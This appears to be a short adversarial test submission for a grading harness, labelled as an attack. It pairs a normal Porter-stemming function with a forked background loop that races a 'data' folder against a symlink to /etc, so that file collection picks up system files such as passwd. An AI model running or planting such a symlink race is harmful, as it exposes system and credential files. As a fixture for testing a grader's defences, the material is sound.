# ---
# attack: A process exchanges a folder for a link and back, while files are collected.
# ---

# %% grade_id="stem"
os.makedirs("data", exist_ok=True)
with open("data/passwd", "w") as file:
    file.write("mine")
os.symlink("/etc", "link")
if os.fork() == 0:
    os.setsid()
    while True:
        try:
            os.rename("data", "aside")
            os.rename("link", "data")
            os.rename("data", "link")
            os.rename("aside", "data")
        except OSError:
            pass


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
